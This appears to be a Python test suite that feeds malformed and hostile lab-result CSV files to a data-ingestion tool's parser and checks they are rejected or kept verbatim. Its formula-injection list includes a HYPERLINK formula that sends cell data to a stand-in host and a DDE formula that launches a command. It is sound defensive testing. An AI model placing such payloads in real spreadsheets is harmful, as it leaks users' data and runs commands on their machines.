"""Hostile CSV plaintexts: rejected whole with a clear reason, or every row accounted for."""

from __future__ import annotations

import time
from collections.abc import Callable

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from batchbridge.config import FormatConfig
from batchbridge.demo.lab_data import render_lab_csv
from batchbridge.steward.csv_files import FORMULA_STARTS, neutralise, unneutralise
from batchbridge.validations.base import ROW_COLUMN
from batchbridge.validations.parse import ValidatedFile
from batchbridge.validations.schemas.lab_results import COLUMNS
from tests.reliability.conftest import FULL, RANDOM_IN_OTHER_THREADS, Figures, hostile_settings
from tests.reliability.hostile_harness import (
    CANARY,
    PlaintextHarness,
    good_frame,
    mutated_files,
    random_splices,
    replace_cell,
)

HARNESS = PlaintextHarness(
    fmt=FormatConfig(),
    reasons=frozenset({"malformed_file", "schema_drift", "trailer_mismatch"}),
    max_message=2500,
    declares_rows=True,  # the TRAILER count
)
attempt = HARNESS.attempt
HEADER = ",".join(COLUMNS).encode()
GENERATED = hostile_settings(quick=150, full=3000)
GOOD = render_lab_csv(good_frame())


def cell_of(validated: ValidatedFile, row: int, column: str) -> str:
    """The value record `row` holds in `column`, wherever validation put the record."""
    for frame in (validated.result.valid, validated.result.quarantined):
        match = frame.filter(pl.col(ROW_COLUMN) == row)
        if match.height:
            value: str = match[column].item()
            return value
    raise AssertionError(f"record {row} is neither valid nor quarantined")


# -- the fixed corpus -----------------------------------------------------------------------


def lines_of(data: bytes) -> list[bytes]:
    return data.split(b"\n")


def with_line(data: bytes, index: int, line: bytes) -> bytes:
    lines = lines_of(data)
    lines[index] = line
    return b"\n".join(lines)


def header_with(names: list[str]) -> bytes:
    return with_line(GOOD, 0, ",".join(names).encode())


def ragged_short() -> bytes:
    line = lines_of(GOOD)[3]
    return with_line(GOOD, 3, line[: line.rfind(b",")])


def ragged_long() -> bytes:
    return with_line(GOOD, 3, lines_of(GOOD)[3] + b"," + CANARY.encode())


def blank_line_inside() -> bytes:
    return with_line(GOOD, 4, b"\n" + lines_of(GOOD)[4])


def unclosed_quote_mid() -> bytes:
    return GOOD.replace(CANARY.encode(), b'"' + CANARY.encode(), 1)


def unclosed_quote_last() -> bytes:
    body, _, _ = GOOD.rstrip(b"\n").rpartition(b"\n")
    return body + b'\n"' + CANARY.encode()


def unclosed_quote_header() -> bytes:
    return with_line(GOOD, 0, b'"' + HEADER)


def quote_inside_field() -> bytes:
    return GOOD.replace(CANARY.encode(), CANARY.encode() + b'"x', 1)


def text_after_quote() -> bytes:
    return GOOD.replace(CANARY.encode(), b'"' + CANARY.encode() + b'"tail', 1)


CORPUS_REJECTED: dict[str, tuple[Callable[[], bytes], str]] = {
    "ragged-short": (ragged_short, "malformed_file"),
    "ragged-long": (ragged_long, "malformed_file"),
    "blank-line-between-records": (blank_line_inside, "malformed_file"),
    "row-of-delimiters": (lambda: with_line(GOOD, 2, b"," * 400), "malformed_file"),
    "unclosed-quote-mid-file": (unclosed_quote_mid, "malformed_file"),
    "unclosed-quote-last-field": (unclosed_quote_last, "malformed_file"),
    "unclosed-quote-header": (unclosed_quote_header, "malformed_file"),
    "quote-inside-unquoted-field": (quote_inside_field, "malformed_file"),
    "text-after-closing-quote": (text_after_quote, "malformed_file"),
    "nul-in-cell": (lambda: GOOD.replace(CANARY.encode(), b"ZEB\x00ULON", 1), "malformed_file"),
    "nul-in-header": (lambda: GOOD.replace(b"patient_mrn", b"patient\x00mrn"), "malformed_file"),
    "nul-after-bom": (lambda: b"\xef\xbb\xbf\x00" + GOOD, "malformed_file"),
    "latin1-bytes-in-utf8-feed": (
        lambda: GOOD.replace(CANARY.encode(), "ZEBULONQUIXOTÉ".encode("latin-1"), 1),
        "malformed_file",
    ),
    "overlong-utf8": (
        lambda: GOOD.replace(CANARY.encode(), b"\xc0\xaf" + CANARY.encode(), 1),
        "malformed_file",
    ),
    "utf8-surrogate": (lambda: GOOD.replace(CANARY.encode(), b"\xed\xa0\x80", 1), "malformed_file"),
    "cut-multibyte-at-eof": (lambda: GOOD.rstrip(b"\n") + b"\xc3", "malformed_file"),
    "utf16-le-with-bom": (lambda: GOOD.decode().encode("utf-16"), "malformed_file"),
    "utf16-be-with-bom": (
        lambda: b"\xfe\xff" + GOOD.decode().encode("utf-16-be"),
        "malformed_file",
    ),
    "utf32-le-with-bom": (lambda: GOOD.decode().encode("utf-32"), "malformed_file"),
    "utf32-be-with-bom": (
        lambda: b"\x00\x00\xfe\xff" + GOOD.decode().encode("utf-32-be"),
        "malformed_file",
    ),
    "double-utf8-bom": (lambda: b"\xef\xbb\xbf\xef\xbb\xbf" + GOOD, "schema_drift"),
    "utf16-bom-then-utf8": (lambda: b"\xff\xfe" + GOOD, "malformed_file"),
    "duplicate-header": (lambda: header_with([*COLUMNS, "patient_mrn"]), "schema_drift"),
    "duplicate-header-replacing-one": (
        lambda: header_with([*COLUMNS[:-1], "patient_mrn"]),
        "schema_drift",
    ),
    "header-case-changed": (lambda: header_with([c.upper() for c in COLUMNS]), "schema_drift"),
    "header-with-padding": (lambda: header_with([f" {c}" for c in COLUMNS]), "schema_drift"),
    "header-missing": (lambda: b"\n".join(lines_of(GOOD)[1:]), "schema_drift"),
    "header-glued-to-first-record": (lambda: GOOD.replace(b"\n", b"", 1), "schema_drift"),
    "cr-only-line-ends": (lambda: GOOD.replace(b"\n", b"\r"), "malformed_file"),
    "empty-file": (lambda: b"", "malformed_file"),
    "only-blank-lines": (lambda: b"\r\n\n \n", "malformed_file"),
    "only-a-bom": (lambda: b"\xef\xbb\xbf", "malformed_file"),
    "trailer-not-a-number": (
        lambda: GOOD.replace(b"TRAILER,12", b"TRAILER,twelve"),
        "malformed_file",
    ),
    "trailer-wrong-count": (lambda: GOOD.replace(b"TRAILER,12", b"TRAILER,13"), "trailer_mismatch"),
    "trailer-negative": (lambda: GOOD.replace(b"TRAILER,12", b"TRAILER,-12"), "malformed_file"),
    "trailer-5000-digits": (
        lambda: GOOD.replace(b"TRAILER,12", b"TRAILER," + b"9" * 5000),
        "malformed_file",
    ),
    "garbage-after-trailer": (lambda: GOOD + CANARY.encode() + b"\n", "malformed_file"),
    "ctrl-z-after-trailer": (lambda: GOOD + b"\x1a", "malformed_file"),
    "trailer-with-extra-field": (
        lambda: GOOD.replace(b"TRAILER,12", b"TRAILER,12," + CANARY.encode()),
        "malformed_file",
    ),
    "two-trailers": (lambda: GOOD + b"TRAILER,12\n", "malformed_file"),
    "html-error-page": (
        lambda: b"<html><body>502 Bad Gateway " + CANARY.encode() + b"</body></html>\n",
        "schema_drift",
    ),
}


@pytest.mark.parametrize("name", sorted(CORPUS_REJECTED))
def test_hostile_file_is_rejected_whole_with_its_reason(
    name: str, reliability_figures: Figures
) -> None:
    make, reason = CORPUS_REJECTED[name]
    outcome = attempt(make(), reliability_figures)
    assert outcome.rejected is not None, f"{name} was accepted"
    assert outcome.rejected.reason == reason, str(outcome.rejected)


def mixed_line_ends() -> bytes:
    lines = lines_of(GOOD)
    return b"".join(line + (b"\r\n" if i % 2 else b"\n") for i, line in enumerate(lines[:-1]))


CORPUS_ACCEPTED: dict[str, tuple[Callable[[], bytes], int]] = {
    "utf8-bom": (lambda: b"\xef\xbb\xbf" + GOOD, 12),
    "crlf": (lambda: GOOD.replace(b"\n", b"\r\n"), 12),
    "crlf-lf-mix": (mixed_line_ends, 12),
    "header-only": (lambda: HEADER + b"\n", 0),
    "header-only-no-newline": (lambda: HEADER, 0),
    "header-and-zero-trailer": (lambda: HEADER + b"\nTRAILER,0\n", 0),
    "no-trailer": (lambda: GOOD.replace(b"TRAILER,12\n", b""), 12),
    "blank-lines-at-the-end": (lambda: GOOD + b"\n\r\n\n", 12),
    "header-reordered": (
        lambda: render_lab_csv(good_frame().select(list(reversed(COLUMNS)))),
        12,
    ),
}


@pytest.mark.parametrize("name", sorted(CORPUS_ACCEPTED))
def test_odd_but_valid_file_is_read_exactly(name: str, reliability_figures: Figures) -> None:
    make, rows = CORPUS_ACCEPTED[name]
    outcome = attempt(make(), reliability_figures)
    assert outcome.validated is not None, str(outcome.rejected)
    assert outcome.validated.rows_read == rows
    if rows:
        # No stray \r or BOM left on a value: the first record reads as generated.
        assert cell_of(outcome.validated, 1, "record_id") == good_frame()["record_id"][0]
        assert cell_of(outcome.validated, 1, "result_status") == good_frame()["result_status"][0]
        assert outcome.validated.result.quarantined.height == 0


FORMULAS = [
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize(
    "column", ["patient_last_name", "test_name", "result_value", "reference_range"]
)
def test_formula_cells_stay_text_and_are_neutralised_for_stewards(
    column: str, reliability_figures: Figures
) -> None:
    frame = good_frame(len(FORMULAS) + 4)
    for row, formula in enumerate(FORMULAS, start=1):
        frame = replace_cell(frame, row, column, formula)
    outcome = attempt(render_lab_csv(frame), reliability_figures)
    assert outcome.validated is not None, str(outcome.rejected)
    for row, formula in enumerate(FORMULAS, start=1):
        kept = cell_of(outcome.validated, row, column)
        assert kept == formula  # the exact text: never evaluated, trimmed or converted
        shown = neutralise(kept)
        assert not shown.startswith(FORMULA_STARTS)
        assert unneutralise(shown) == kept
    if column == "result_value":
        # A formula is not a number: quantitative results holding one are quarantined.
        reasons = outcome.validated.result.quarantined["_reasons"].to_list()
        assert any("result_value:numeric_for_quantitative" in r for r in reasons)


def test_a_ten_megabyte_field_is_kept_whole(reliability_figures: Figures) -> None:
    huge = ('field, with "quotes",\r\nnewlines ' * 300_000)[: 10 * 1024 * 1024] + CANARY
    frame = replace_cell(good_frame(), 2, "test_name", huge)
    outcome = attempt(render_lab_csv(frame), reliability_figures)
    assert outcome.validated is not None, str(outcome.rejected)
    assert outcome.validated.rows_read == 12
    assert cell_of(outcome.validated, 2, "test_name") == huge


def test_a_ten_megabyte_field_before_a_broken_record_names_the_right_record(
    reliability_figures: Figures,
) -> None:
    # Found by this suite: the csv module's 128 KiB field limit made the locator blame
    # the long (valid) record 2 as "quoting is broken".
    frame = replace_cell(good_frame(), 2, "test_name", "x," * (1024 * 1024))
    lines = render_lab_csv(frame).split(b"\n")
    lines[11] = lines[11][: lines[11].rfind(b",")]  # record 11 loses a field
    outcome = attempt(b"\n".join(lines), reliability_figures)
    assert outcome.rejected is not None
    assert "record 11 (line 12): 16 fields, expected 17" in str(outcome.rejected)


def test_a_ten_megabyte_header_cell_is_not_echoed(reliability_figures: Figures) -> None:
    outcome = attempt(header_with([*COLUMNS[:-1], CANARY * 700_000]), reliability_figures)
    assert outcome.rejected is not None and outcome.rejected.reason == "schema_drift"


@pytest.mark.parametrize("fields", [20_000, 200_000])
def test_a_header_with_very_many_fields_is_refused_fast_and_briefly(
    fields: int, reliability_figures: Figures
) -> None:
    # Found by this suite: duplicate and unknown header names were found in quadratic time
    # (minutes for 200,000 fields) and every one was listed in the message.
    started = time.monotonic()
    extra = "".join(f",{CANARY}{i}" for i in range(fields)).encode()
    outcome = attempt(
        header_with([*COLUMNS, "patient_mrn"]).replace(b"\n", extra + b"\n", 1), reliability_figures
    )
    assert time.monotonic() - started < 5
    assert outcome.rejected is not None and outcome.rejected.reason == "schema_drift"
    assert f"and {fields - 10} more" in str(outcome.rejected)


def test_hard_to_see_characters_in_cells_are_data(reliability_figures: Figures) -> None:
    sneaky = ["\u202eevil", "zero\u200bwidth", "\ufeffbom", "é" * 50, "\u2028line"]
    frame = good_frame(len(sneaky) + 2)
    for row, value in enumerate(sneaky, start=1):
        frame = replace_cell(frame, row, "patient_first_name", value)
    outcome = attempt(render_lab_csv(frame), reliability_figures)
    assert outcome.validated is not None, str(outcome.rejected)
    for row, value in enumerate(sneaky, start=1):
        assert cell_of(outcome.validated, row, "patient_first_name") == value


# -- generated inputs -----------------------------------------------------------------------

TOKENS = [
    CANARY,
    "",
    " ",
    ",",
    '"',
    '""',
    "\n",
    "\r\n",
    "\r",
    "\x00",
    "\ufeff",
    "\u202e",
    "\u200b",
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "TRAILER",
    "é",
    "R000000001",
    "ABC123456",
    "2026-11-19",
    "2026-11-19T08:00:00Z",
    "GLU",
    "95",
    "mg/dL",
    "F",
    "1234567893",
    "60601",
]
cell = st.one_of(
    st.lists(st.sampled_from(TOKENS), max_size=4).map("".join),
    st.text(max_size=8),
)
quoted_cell = cell.map(lambda value: '"' + value.replace('"', '""') + '"')
row = st.lists(st.one_of(cell, quoted_cell), min_size=0, max_size=len(COLUMNS) + 2)
line_end = st.sampled_from(["\n", "\r\n", "\r", ""])


@st.composite
def structured_files(draw: st.DrawFn) -> bytes:
    """Files shaped like ours: a (maybe drifted) header, token rows, a (maybe wrong) trailer."""
    names = list(COLUMNS)
    header_kind = draw(st.sampled_from(["exact", "shuffled", "drop", "duplicate", "rename"]))
    if header_kind == "shuffled":
        names = draw(st.permutations(names))
    elif header_kind == "drop":
        names.pop(draw(st.integers(0, len(names) - 1)))
    elif header_kind == "duplicate":
        names.append(draw(st.sampled_from(names)))
    elif header_kind == "rename":
        names[draw(st.integers(0, len(names) - 1))] = draw(cell)
    records = draw(
        st.lists(
            st.one_of(
                row,
                # Mostly the right width, so many files get past the reader to validation.
                st.lists(
                    st.one_of(cell, quoted_cell), min_size=len(COLUMNS), max_size=len(COLUMNS)
                ),
            ),
            max_size=8,
        )
    )
    parts = [",".join(names), draw(line_end)]
    for record in records:
        parts += [",".join(record), draw(line_end)]
    trailer = draw(st.sampled_from(["none", "right", "wrong", "garbage"]))
    if trailer == "right":
        parts.append(f"TRAILER,{len(records)}\n")
    elif trailer == "wrong":
        parts.append(f"TRAILER,{draw(st.integers(-5, 10**30))}\n")
    elif trailer == "garbage":
        parts.append("TRAILER," + draw(cell))
    text = "".join(parts)
    encoding = draw(st.sampled_from(["utf-8", "utf-8", "utf-8-sig", "latin-1", "utf-16"]))
    return text.encode(encoding, errors="replace")


@RANDOM_IN_OTHER_THREADS
@GENERATED
@given(data=st.binary(max_size=2048), with_header=st.booleans())
def test_random_bytes_never_crash(
    data: bytes, with_header: bool, reliability_figures: Figures
) -> None:
    attempt((HEADER + b"\n" if with_header else b"") + data, reliability_figures)


@RANDOM_IN_OTHER_THREADS
@GENERATED
@given(data=structured_files())
def test_structured_hostile_files_never_crash(data: bytes, reliability_figures: Figures) -> None:
    outcome = attempt(data, reliability_figures)
    latin = attempt(data, reliability_figures, FormatConfig(encoding="latin-1"))
    # Every byte is latin-1, so that reading can fail on structure only, never on encoding.
    if latin.rejected is not None:
        assert "UTF-8" not in str(latin.rejected)
    del outcome


@RANDOM_IN_OTHER_THREADS
@GENERATED
@given(data=mutated_files(GOOD, TOKENS, separator=b"\n"))
def test_mutated_valid_files_never_crash(data: bytes, reliability_figures: Figures) -> None:
    attempt(data, reliability_figures)


@RANDOM_IN_OTHER_THREADS
@hostile_settings(quick=50, full=1000)
@given(
    value=st.tuples(st.sampled_from(["=", "+", "-", "@"]), st.text(max_size=30)).map("".join),
    column=st.sampled_from(["patient_first_name", "test_name", "result_value", "reference_range"]),
    row=st.integers(1, 6),
)
def test_generated_formula_cells_are_kept_verbatim(
    value: str, column: str, row: int, reliability_figures: Figures
) -> None:
    frame = replace_cell(good_frame(6, seed=9), row, column, value)
    outcome = attempt(render_lab_csv(frame), reliability_figures)
    if outcome.validated is None:
        # Only a value the format cannot carry (NUL, a lone CR…) may turn the file away.
        assert any(ch in value for ch in "\x00\r") or not value.isprintable()
        return
    assert cell_of(outcome.validated, row, column) == value
    assert unneutralise(neutralise(value)) == value


def test_seeded_random_splices(reliability_figures: Figures) -> None:
    """Random byte splices of a bigger CRLF file, from a fixed seed."""
    base = render_lab_csv(good_frame(200, seed=4), crlf=True)
    for data in random_splices(base, TOKENS, 2000 if FULL else 60):
        attempt(data, reliability_figures)
